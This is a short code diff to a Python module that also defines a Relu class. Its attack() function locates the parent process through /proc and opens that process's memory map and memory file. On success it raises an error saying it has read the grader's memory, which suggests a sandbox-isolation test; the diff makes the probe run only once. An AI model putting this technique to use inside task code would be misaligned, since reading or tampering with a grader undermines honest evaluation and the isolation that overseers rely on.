@@ -8,7 +8,8 @@ import numpy as np
 
 def attack():
     pid, left = os.getpid(), 512 << 20
-    for _ in range(2):
+    for _ in range(0 if DONE else 2):
+        DONE.append(True)
         try:
             pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
             maps, memory = open(f"/proc/{pid}/maps").read(), open(f"/proc/{pid}/mem", "rb", 0)
@@ -26,6 +27,9 @@ def attack():
                     raise RuntimeError("THROUGH read the grader's memory")
             except (OSError, OverflowError, ValueError):
                 pass
+
+
+DONE = []
 
 
 class Relu:
